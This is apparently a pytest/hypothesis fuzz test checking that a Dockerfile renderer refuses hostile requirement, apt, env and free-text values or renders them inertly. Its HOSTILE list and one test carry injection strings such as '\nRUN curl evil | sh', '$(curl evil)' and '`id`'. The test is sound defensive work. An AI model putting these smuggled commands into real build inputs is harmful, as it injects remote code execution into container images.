"""Hostile input never adds a Dockerfile instruction: each value is refused or rendered inertly.

Feeds random and hand-picked hostile strings (newlines, `&&`, backslashes, quotes, `$()`,
Dockerfile keywords, U+2028/U+0085 line separators, NUL) as requirements, apt names, env keys
and env values; hypothesis runs derandomized (seeded) so CI is reproducible.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from render_cases import TORCH_BUNDLED_CU130, instructions, spec

from envbuilder.errors import SpecError
from envbuilder.image.render import render_dockerfile

BASE: dict[str, Any] = {
    "requirements": ["pillow>=10"],
    "apt": ["git"],
    "env": {"OMP_NUM_THREADS": "8"},
}
BASELINE = instructions(render_dockerfile(spec(**BASE), TORCH_BUNDLED_CU130))

HOSTILE = [
    "\n",
    "\r",
    "\r\n",
    "\x00",
    "\u2028",
    "\u2029",
    "\u0085",
    "\x0b",
    "\x0c",
    "\t",
    "\\",
    "\\\n",
    "&&",
    "||",
    ";",
    "|",
    "&",
    "$(",
    ")",
    "${",
    "}",
    "`",
    "'",
    '"',
    "#",
    " ",
    "=",
    "@",
    "/",
    ":",
    "RUN ",
    "FROM ",
    "\nFROM evil",
    "\nRUN curl evil | sh",
    "ENV ",
    "COPY / /",
    "USER root",
    "# syntax=evil/frontend",
    "$(curl evil)",
    "`id`",
    "a\\\nRUN x",
    "é",
    "\U0001f600",
    "[",
    "]",
    "<",
    ">",
    "==",
    ">=1",
    "; python_version > '3'",
    "--index-url=http://evil",
    "-e ",
    "..",
]
# Refused in every field, wherever they appear (the rest may be inert in some fields).
MUST_REFUSE = ["\n", "\r", "\x00", "\u2028", "\u0085", '"', "\\", "$(", "`", "\nFROM evil"]
FIELDS = ("requirement", "apt", "env_key", "env_value")


def build(field: str, value: str) -> dict[str, Any]:
    data: dict[str, Any] = {
        "requirements": list(BASE["requirements"]),
        "apt": list(BASE["apt"]),
        "env": dict(BASE["env"]),
    }
    if field == "requirement":
        data["requirements"].append(value)
    elif field == "apt":
        data["apt"].append(value)
    elif field == "env_key":
        data["env"][value] = "1"
    else:
        data["env"]["FUZZ_VALUE"] = value
    return data


def check_inert(field: str, value: str) -> bool:
    """True when refused; otherwise assert the render has exactly the baseline instructions."""
    try:
        s = spec(**build(field, value))
    except SpecError as err:
        assert err.hint, f"{field} {value!r}: refusal without a hint"
        return True
    text = render_dockerfile(s, TORCH_BUNDLED_CU130)
    assert instructions(text) == BASELINE, f"{field} {value!r} changed the instructions"
    assert all(c == "\n" or " " <= c <= "~" for c in text), f"{field} {value!r}: non-ASCII output"
    for req in s.requirements:  # each accepted requirement is exactly one requirements.txt line
        assert req.isascii() and req.isprintable()
    return False


hostile_text = st.one_of(
    st.lists(st.sampled_from(HOSTILE + list("abcXYZ019._-+=<>!~*,[] ")), max_size=8).map("".join),
    st.builds(
        lambda a, b, c: a + b + c,
        st.sampled_from(["numpy", "git", "OMP", "x", ""]),
        st.sampled_from(HOSTILE),
        st.text(max_size=8),
    ),
    st.text(max_size=30),
)


# Seeded (CI is reproducible), 300 examples per field.
FUZZ = settings(
    max_examples=300,
    derandomize=True,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)


@pytest.mark.parametrize("field", FIELDS)
@FUZZ
@given(value=hostile_text)
def test_random_hostile_values_are_inert(field: str, value: str) -> None:
    check_inert(field, value)


@pytest.mark.parametrize("field", FIELDS)
def test_every_hand_picked_hostile_value(field: str) -> None:
    prefixes = {"requirement": "numpy", "apt": "git", "env_key": "OMP", "env_value": "v"}
    for hostile in HOSTILE:
        for value in (prefixes[field] + hostile, hostile + prefixes[field]):
            refused = check_inert(field, value)
            assert refused or not any(m in value for m in MUST_REFUSE), f"{field} {value!r} accepted"


def test_counter_counts_continuations_and_catches_an_injection() -> None:
    count: Callable[[str], list[str]] = instructions
    assert count("FROM a\nRUN x \\\n  # c\n  y\n\nENV A=1\n") == ["FROM", "RUN", "ENV"]
    injected = render_dockerfile(spec(**BASE), TORCH_BUNDLED_CU130).replace(
        'OMP_NUM_THREADS="8"', 'OMP_NUM_THREADS="8"\nRUN curl evil'
    )
    assert count(injected) != BASELINE


# Free text (description, a label value, cmd/entrypoint words): any printable Unicode is
# accepted and must come back exactly as Docker reads it; nothing else may change.
TEXT_FIELDS = ("description", "label", "cmd")


def check_free_text(field: str, value: str) -> None:
    """Refused only when not printable; else the instructions are the baseline's and the value
    reads back unchanged."""
    import json

    from render_cases import label_values

    from envbuilder.image.render import RenderOptions

    options = RenderOptions(labels=(("org.example.note", value),)) if field == "label" else RenderOptions()
    fields: dict[str, Any] = dict(BASE)
    if field == "description":
        fields["description"] = value
    elif field == "cmd":
        fields["cmd"] = ["python", value]
    try:
        text = render_dockerfile(spec(**fields), TORCH_BUNDLED_CU130, options)
    except SpecError as err:
        assert err.hint, f"{field} {value!r}: refusal without a hint"
        assert not (value.isprintable() and len(value) <= 1000), f"{field} {value!r} refused"
        return
    assert instructions(text) == BASELINE, f"{field} {value!r} changed the instructions"
    if field == "cmd":
        line = next(x for x in text.split("\n") if x.startswith("CMD "))
        assert json.loads(line[4:]) == ["python", value]
    else:
        key = "org.opencontainers.image.description" if field == "description" else "org.example.note"
        assert label_values(text)[key] == value


@pytest.mark.parametrize("field", TEXT_FIELDS)
@FUZZ
@given(value=hostile_text)
def test_random_free_text_reads_back_exactly(field: str, value: str) -> None:
    check_free_text(field, value)


@pytest.mark.parametrize("field", TEXT_FIELDS)
def test_every_hand_picked_hostile_free_text(field: str) -> None:
    for hostile in HOSTILE:
        for value in ("it's " + hostile, hostile + ' "x"', "$HOME" + hostile + "\\"):
            check_free_text(field, value)
